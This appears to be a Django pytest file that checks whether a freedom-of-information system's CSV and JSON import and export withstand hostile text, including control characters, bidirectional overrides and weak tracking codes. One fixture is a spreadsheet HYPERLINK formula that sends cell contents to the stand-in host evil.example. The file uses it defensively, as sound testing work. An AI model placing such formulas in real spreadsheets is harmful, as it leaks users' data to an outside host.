"""Import and export against hostile text: formulas stay text in the CSV, imported text follows the forms'
character rule, imported tracking codes are as strong as generated ones."""

import csv
import io
import json

import pytest

from gongkai.foi.exchange import ImportFailed, applications_export, applications_import
from gongkai.foi.exchange.export import export_rows, exportable_applications
from gongkai.foi.models import Application, tracking_code_new

from .conftest import person_data
from .test_exchange import _csv, _wipe

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def _csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _import_errors(org, rows) -> list[str]:
    with pytest.raises(ImportFailed) as caught:
        applications_import(actor=org.office, data=_csv(rows))
    return [str(e) for e in caught.value.errors]


def _exported(org, **data) -> list[dict]:
    """The registered applications as export rows updated with ``data``; the database emptied for the import."""
    rows = export_rows(exportable_applications(org.office))
    _wipe()
    for r in rows:
        r.update(data)
    return rows


def test_a_formula_typed_as_the_applicants_name_is_text_in_the_csv_and_comes_back_unchanged(org, register):
    register(data=person_data(name=FORMULA, info_title="@SUM(1+1)", address="-示范县人民路1号"))
    content = applications_export(actor=org.office, fmt="csv")
    (row,) = _csv_rows(content)
    assert row["name"] == "'" + FORMULA
    assert row["info_title"] == "'@SUM(1+1)"
    assert row["address"] == "'-示范县人民路1号"
    assert row["reg_seq"] == "1"  # numbers are written as numbers
    _wipe()
    (app,) = applications_import(actor=org.office, data=content, name="x.csv")
    assert (app.name, app.info_title, app.address) == (FORMULA, "@SUM(1+1)", "-示范县人民路1号")


def test_control_characters_stored_before_the_rule_do_not_stop_an_export_from_being_imported(org, register):
    app = register()
    Application.objects.filter(pk=app.pk).update(name="张\x1b三\u202e")
    for fmt in ("csv", "json"):
        content = applications_export(actor=org.office, fmt=fmt)
        assert b"\x1b" not in content and "\u202e".encode() not in content
        _wipe()
        (imported,) = applications_import(actor=org.office, data=content, name=f"x.{fmt}")
        assert imported.name == "张三"
        Application.objects.filter(pk=imported.pk).update(name="张\x1b三\u202e")


def test_an_imported_text_with_a_control_character_is_refused_with_its_row_and_field(org, register):
    register()
    register()
    rows = _exported(org, tracking_code="")
    rows[1]["name"] = "张\x1b三"
    rows[0]["pauses"] = [{"kind": "third_party", "started_on": "2024-10-08", "opinion": "同意\u202e"}]
    messages = _import_errors(org, rows)
    assert "第3行：申请人姓名/名称（name）含有不可见的特殊字符（控制字符 U+001B）" in messages[-1]
    assert any(m.startswith("第2行：") and "opinion" in m and "U+202E" in m for m in messages)
    assert Application.objects.count() == 0


def test_a_json_import_follows_the_same_rule(org, register):
    register()
    content = json.loads(applications_export(actor=org.office, fmt="json"))
    content["applications"][0]["info_title"] = "招生\u2066计划"
    _wipe()
    with pytest.raises(ImportFailed) as caught:
        applications_import(actor=org.office, data=json.dumps(content).encode(), name="x.json")
    assert str(caught.value.errors[0]).startswith("第1行：所需信息名称（info_title）含有不可见的特殊字符")


@pytest.mark.parametrize("code", ["12345678", "ABCDEFGH", "ABCD1234EFGH", "ABCDEFGHJKM", "ABCD-EFGH-JKMN"])
def test_a_weak_imported_tracking_code_is_refused_with_its_row_and_field(org, register, code):
    register()
    register()
    rows = _exported(org)
    rows[1]["tracking_code"] = code
    messages = _import_errors(org, rows)
    assert messages == [messages[0]]
    assert messages[0].startswith("第3行：查询码（tracking_code）强度不足")
    assert f"“{code}”" not in messages[0]  # the applicant's key is not repeated on the page
    assert Application.objects.count() == 0


def test_an_imported_tracking_code_as_strong_as_a_generated_one_is_kept(org, register):
    register()
    code = tracking_code_new()
    rows = _exported(org, tracking_code=code.lower())
    (app,) = applications_import(actor=org.office, data=_csv(rows))
    assert app.tracking_code == code
